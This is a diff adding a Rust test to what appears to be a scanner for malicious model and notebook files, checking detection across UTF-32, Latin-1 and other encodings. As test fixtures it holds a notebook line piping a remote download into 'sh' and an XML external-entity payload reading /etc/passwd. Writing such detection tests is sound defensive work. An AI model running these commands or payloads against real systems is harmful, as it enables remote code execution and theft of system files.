@@ -279,3 +279,30 @@ fn cells_as_ipython_reads_them() {
         NOTEBOOK.replace("!curl http://198.51.100.7/x | sh", ">>> import numpy\\n>>> numpy.zeros(3)\\n");
     assert_eq!(outcome("a.ipynb", shown.as_bytes()), Outcome::Clean);
 }
+
+/// `json.loads` takes four bytes a character, and parsers of XML what its declaration names.
+#[test]
+fn texts_in_other_encodings() {
+    let wide = |text: &str, big: bool| -> Vec<u8> {
+        let bytes = |c: char| if big { u32::from(c).to_be_bytes() } else { u32::from(c).to_le_bytes() };
+        text.chars().flat_map(bytes).collect()
+    };
+    for (name, text) in [("tokenizer_config.json", TOKENIZER), ("config.json", REMOTE)] {
+        for text in [text.to_owned(), format!("\u{feff}{text}")] {
+            assert!(outcome(name, &wide(&text, true)) >= Outcome::Suspicious, "{text:?}");
+            assert!(outcome(name, &wide(&text, false)) >= Outcome::Suspicious, "{text:?}");
+        }
+    }
+    assert_eq!(outcome("config.json", &wide(r#"{"a": 1}"#, true)), Outcome::Clean);
+    let document = |encoding: &str, inner: &str| {
+        let text = format!("<?xml version=\"1.0\" encoding='{encoding}'?>\n{inner}");
+        text.chars().map(|c| u8::try_from(c).unwrap()).collect::<Vec<u8>>()
+    };
+    let plain = "<PMML version=\"4.4\"><Header description=\"Gr\u{f6}\u{df}e\"/></PMML>";
+    let hostile = format!("<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{plain}");
+    for encoding in ["ISO-8859-1", "windows-1252", "latin1"] {
+        assert_eq!(outcome("a.pmml", &document(encoding, plain)), Outcome::Clean, "{encoding}");
+        assert!(outcome("a.pmml", &document(encoding, &hostile)) >= Outcome::Suspicious, "{encoding}");
+    }
+    assert_ne!(outcome("a.pmml", &document("shift_jis", plain)), Outcome::Clean);
+}
